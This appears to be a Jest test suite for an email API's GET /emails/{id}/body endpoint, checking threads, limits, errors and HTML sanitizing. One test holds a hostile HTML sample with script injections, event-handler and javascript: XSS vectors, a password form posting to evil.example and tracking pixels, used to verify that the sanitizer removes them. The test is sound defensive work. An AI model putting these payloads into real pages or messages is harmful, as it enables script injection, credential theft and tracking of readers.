import { describe, expect, it } from '@jest/globals';
import { minute, putEmails } from '../support/emails.ts';
import { useStack } from '../support/use-stack.ts';

const stack = useStack();

const HOSTILE = `<html><head><style>body{background:url(http://track.example/a)}</style><base href="http://evil.example">
<meta http-equiv="refresh" content="0;url=http://evil.example"><link rel="stylesheet" href="http://evil.example/x.css"></head>
<body onload="alert(1)" background="http://track.example/b"><p style="color:red;background-image:url(http://track.example/c)">Hello</p>
<script>alert(2)</script><form action="http://evil.example"><input name="password"><button>Go</button></form>
<img src="cid:logo@x" alt="Logo"><img src="http://track.example/pixel.gif"><img src="//track.example/p"><img srcset="http://track.example/q 1x">
<img src="data:image/png;base64,AAAA"><img src="data:image/svg+xml;base64,AAAA">
<a href="javascript:alert(3)">bad</a><a href="https://shop.example/x" onclick="alert(4)">good</a>
<iframe src="http://evil.example"></iframe><object data="x"></object><svg onload="alert(5)"><script>alert(6)</script></svg>
<video src="http://track.example/v" poster="http://track.example/w"></video><math><mi xlink:href="javascript:alert(7)">x</mi></math></body></html>`;

describe('GET /emails/{emailId}/body', () => {
  it('200 with text, html null and the email alone where there is no thread', async () => {
    const workspace = await stack.workspace();
    const mailbox = await workspace.connectMailbox();
    const [id] = await workspace.ingest(mailbox.id, [{ text: 'Just text.' }]);
    const { status, body } = await workspace.read.get(`/emails/${id}/body`);
    const { email } = (await workspace.read.get(`/emails/${id}`)).body;
    expect(status).toBe(200);
    expect(body).toEqual({
      emailId: id,
      threadId: email.threadId,
      body: { html: null, text: expect.stringContaining('Just text.') },
      thread: [email],
    });
  });

  it('400 MAILBOX_INACTIVE where the provider alone has it and the mailbox is disconnected', async () => {
    const workspace = await stack.workspace();
    const mailbox = await workspace.connectMailbox();
    const [id = ''] = await workspace.ingest(mailbox.id, [{ text: 'Let go of.' }]);
    const { emails, bodies, mailboxes } = stack.collections;
    const [folder] = mailbox.folders;
    await mailboxes.updateOne({ _id: mailbox.id }, { $set: { 'folders.0.path': 'INBOX' } });
    await emails.updateOne({ _id: id }, { $set: { place: { folderId: folder?.id ?? '', uidValidity: 1, uid: 1 } } });
    await bodies.deleteOne({ _id: id });
    await stack.workspaces.disconnectMailbox({ mailboxId: mailbox.id }, { workspaceId: workspace.id });
    const { status, body } = await workspace.read.get(`/emails/${id}/body`);
    expect([status, body.code]).toEqual([400, 'MAILBOX_INACTIVE']);
  });

  it('200 with html that runs, sends and fetches nothing; images that came along stay', async () => {
    const workspace = await stack.workspace();
    const [id] = await workspace.ingest((await workspace.connectMailbox()).id, [{ html: HOSTILE }]);
    const { html } = (await workspace.read.get(`/emails/${id}/body`)).body.body;
    expect(html).not.toMatch(
      /script|alert|onload|onclick|<form|<input|<button|iframe|<object|<svg|<base|<meta|<link|<style|track|evil/i,
    );
    expect(html).toContain('<p style="color:red">Hello</p>');
    expect(html).toContain('<img src="cid:logo@x" alt="Logo" />');
    expect(html).toContain('data:image/png;base64,AAAA');
    expect(html).not.toContain('svg');
    expect(html).toContain('href="https://shop.example/x"');
  });

  it('200 with the thread oldest first, across folders and within its mailbox alone', async () => {
    const workspace = await stack.workspace();
    const thread = { threadId: 'thr_1' };
    const emails = await putEmails(stack, workspace.id, [
      { ...thread, date: minute(3) },
      { ...thread, date: minute(1), folderType: 'SENT' },
      { ...thread, date: minute(2) },
      { ...thread, date: minute(2), mailboxId: 'mbx_other' },
      { threadId: null, date: minute(1) },
    ]);
    const [newest, oldest, middle, , alone] = emails.map(({ _id }) => _id);
    const { body } = await workspace.read.get(`/emails/${middle}/body`);
    expect(body.thread.map(({ id }: { id: string }) => id)).toEqual([oldest, middle, newest]);
    expect(body).toMatchObject({ threadId: 'thr_1', body: { html: null, text: null } });
    expect(body.thread[0]).toHaveProperty('bcc');
    expect((await workspace.read.get(`/emails/${alone}/body`)).body.thread).toHaveLength(1);
  });

  it('200 with the newest 200 of a long thread, and always the email asked for', async () => {
    const workspace = await stack.workspace();
    const emails = await putEmails(
      stack,
      workspace.id,
      Array.from({ length: 203 }, (_, n) => ({ threadId: 'thr_long', date: minute(n), subject: `${n}` })),
    );
    const subjectsFrom = async (position: number) => {
      const { thread } = (await workspace.read.get(`/emails/${emails[position]?._id}/body`)).body;
      return thread.map(({ subject }: { subject: string }) => Number(subject));
    };
    const last = await subjectsFrom(202);
    expect([last.length, last[0], last.at(-1)]).toEqual([200, 3, 202]);
    const first = await subjectsFrom(0);
    expect([first.length, first[0], first[1], first.at(-1)]).toEqual([200, 0, 4, 202]);
  });

  it('200 with fewer of a thread whose emails name thousands, and always the email asked for', async () => {
    const workspace = await stack.workspace();
    const to = Array.from({ length: 1_000 }, (_, n) => ({ email: `p${n}@example.com`, name: null }));
    const emails = await putEmails(
      stack,
      workspace.id,
      Array.from({ length: 60 }, (_, n) => ({ threadId: 'thr_fat', date: minute(n), subject: `${n}`, to })),
    );
    const subjectsFrom = async (position: number) => {
      const { thread } = (await workspace.read.get(`/emails/${emails[position]?._id}/body`)).body;
      return thread.map(({ subject }: { subject: string }) => Number(subject));
    };
    const newest = Array.from({ length: 21 }, (_, n) => 39 + n);
    expect(await subjectsFrom(59)).toEqual(newest);
    expect(await subjectsFrom(0)).toEqual([0, ...newest]);
  });

  it('404 NOT_FOUND for an unknown id, and byte for byte the same for one of another workspace', async () => {
    const workspace = await stack.workspace();
    const [email] = await putEmails(stack, workspace.id, [{}]);
    const other = await stack.workspace();
    const unknown = await other.read.get('/emails/eml_never/body');
    expect(unknown).toMatchObject({ status: 404, body: { code: 'NOT_FOUND' } });
    expect((await other.read.get(`/emails/${email?._id}/body`)).body).toEqual(unknown.body);
  });
});
